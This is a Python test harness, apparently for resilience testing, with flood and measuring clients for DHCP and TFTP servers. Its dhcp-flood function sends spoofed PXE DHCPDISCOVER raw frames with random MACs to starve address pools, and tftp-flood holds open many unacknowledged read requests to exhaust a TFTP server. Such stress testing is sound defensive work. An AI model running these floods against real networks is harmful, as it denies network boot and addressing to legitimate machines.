#!/usr/bin/env python3
"""Flood and measuring clients for the DHCP and TFTP attack tests (run inside the test's namespaces only).

  dhcp-flood IFACE COUNT SECONDS     COUNT spoofed PXE DHCPDISCOVERs, random MACs, raw frames, paced over SECONDS
  dhcp-client IFACE MAC SECONDS      an enrolled machine: DISCOVER/OFFER/REQUEST/ACK/RELEASE cycles for SECONDS;
                                     prints "attempts N answered M first_try K"
  tftp-flood SERVER COUNT SECONDS    COUNT plain RRQs, each from its own source port, never acknowledged
  tftp-get SERVER FILE               an iPXE-like client (blksize 1432, tsize 0); prints "bytes N seconds S"
"""
import os
import random
import resource
import socket
import struct
import sys
import time

PXE_VENDOR = b"PXEClient:Arch:00000:UNDI:002001"
MAGIC = b"\x63\x82\x53\x63"


def dhcp_payload(mac, xid, msg_type, extra=b""):
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000, b"\0" * 4, b"\0" * 4,
                        b"\0" * 4, b"\0" * 4, mac + b"\0" * 10, b"", b"")
    options = bytes([53, 1, msg_type]) + bytes([60, len(PXE_VENDOR)]) + PXE_VENDOR + bytes([93, 2, 0, 0])
    return bootp + MAGIC + options + extra + b"\xff"


def ip_checksum(header):
    total = sum(struct.unpack("!10H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total) & 0xFFFF


def broadcast_frame(mac, payload):
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, b"\0" * 4, b"\xff" * 4)
    header = header[:10] + struct.pack("!H", ip_checksum(header)) + header[12:]
    return b"\xff" * 6 + mac + b"\x08\x00" + header + udp


def dhcp_flood(iface, count, seconds):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    start = time.monotonic()
    for i in range(count):
        mac = bytes([0x02] + [random.randrange(256) for _ in range(5)])
        sock.send(broadcast_frame(mac, dhcp_payload(mac, random.getrandbits(32), 1)))
        lag = start + seconds * (i + 1) / count - time.monotonic()
        if lag > 0:
            time.sleep(lag)
    print(f"sent {count} in {time.monotonic() - start:.2f} s")


def option(packet, code):
    i = 240
    while i < len(packet) and packet[i] != 255:
        if packet[i] == 0:
            i += 1
            continue
        if packet[i] == code:
            return packet[i + 2:i + 2 + packet[i + 1]]
        i += 2 + packet[i + 1]
    return None


def await_reply(sock, xid, mac, want, timeout):
    deadline = time.monotonic() + timeout
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return None
        sock.settimeout(left)
        try:
            packet = sock.recv(4096)
        except socket.timeout:
            return None
        if len(packet) < 240 or packet[0] != 2 or struct.unpack("!I", packet[4:8])[0] != xid:
            continue
        if packet[28:34] != mac or option(packet, 53) != bytes([want]):
            continue
        return packet


def exchange(sock, mac, xid, msg_type, want, extra=b""):
    """Sends, waits 1 s, retransmits once (as real clients do). Returns (reply, first_try)."""
    for attempt in range(2):
        sock.sendto(dhcp_payload(mac, xid, msg_type, extra), ("255.255.255.255", 67))
        reply = await_reply(sock, xid, mac, want, 1.0)
        if reply:
            return reply, attempt == 0
    return None, False


def dhcp_client(iface, mac_text, seconds):
    mac = bytes(int(part, 16) for part in mac_text.split(":"))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    sock.bind(("0.0.0.0", 68))
    attempts = answered = first_try = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        attempts += 1
        xid = random.getrandbits(32)
        offer, quick_offer = exchange(sock, mac, xid, 1, 2)
        if not offer:
            print(f"attempt {attempts}: no OFFER", file=sys.stderr)
            continue
        address, server = offer[16:20], option(offer, 54)
        ack, quick_ack = exchange(sock, mac, xid, 3, 5, bytes([50, 4]) + address + bytes([54, 4]) + server)
        if not ack:
            print(f"attempt {attempts}: no ACK", file=sys.stderr)
            continue
        answered += 1
        first_try += quick_offer and quick_ack
        # RELEASE, so the next cycle is a fresh boot that needs a free address again.
        release = bytearray(dhcp_payload(mac, random.getrandbits(32), 7, bytes([54, 4]) + server))
        release[12:16] = address
        sock.sendto(bytes(release), (socket.inet_ntoa(server), 67))
        time.sleep(0.2)
    print(f"attempts {attempts} answered {answered} first_try {first_try}")


def tftp_flood(server, count, seconds):
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
    sockets = []
    start = time.monotonic()
    for i in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.sendto(b"\x00\x01pxe.bin\x00octet\x00", (server, 69))
        sockets.append(sock)  # kept open (and never read), so no ICMP goes back
        lag = start + seconds * (i + 1) / count - time.monotonic()
        if lag > 0:
            time.sleep(lag)
    print(f"sent {count} in {time.monotonic() - start:.2f} s", flush=True)
    time.sleep(float(os.environ.get("FLOOD_HOLD", "0")))


def tftp_get(server, name):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1.0)
    start = time.monotonic()
    request = b"\x00\x01" + name.encode() + b"\x00octet\x00blksize\x001432\x00tsize\x000\x00"
    data = bytearray()
    peer = None
    expected = 1
    for _ in range(3):
        sock.sendto(request, (server, 69))
        try:
            packet, peer = sock.recvfrom(65536)
            break
        except socket.timeout:
            continue
    else:
        sys.exit("no answer to the request")
    while True:
        opcode = struct.unpack("!H", packet[:2])[0]
        if opcode == 5:
            sys.exit(f"server error: {packet[4:-1].decode(errors='replace')}")
        if opcode == 6:
            sock.sendto(b"\x00\x04\x00\x00", peer)
        elif opcode == 3:
            block = struct.unpack("!H", packet[2:4])[0]
            if block == expected & 0xFFFF:
                data += packet[4:]
                expected += 1
            sock.sendto(b"\x00\x04" + packet[2:4], peer)
            if block == (expected - 1) & 0xFFFF and len(packet) - 4 < 1432:
                break
        while True:
            packet, from_ = sock.recvfrom(65536)
            if from_ == peer:
                break
    print(f"bytes {len(data)} seconds {time.monotonic() - start:.2f}")


def main():
    command, args = sys.argv[1], sys.argv[2:]
    if command == "dhcp-flood":
        dhcp_flood(args[0], int(args[1]), float(args[2]))
    elif command == "dhcp-client":
        dhcp_client(args[0], args[1], float(args[2]))
    elif command == "tftp-flood":
        tftp_flood(args[0], int(args[1]), float(args[2]))
    elif command == "tftp-get":
        tftp_get(args[0], args[1])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
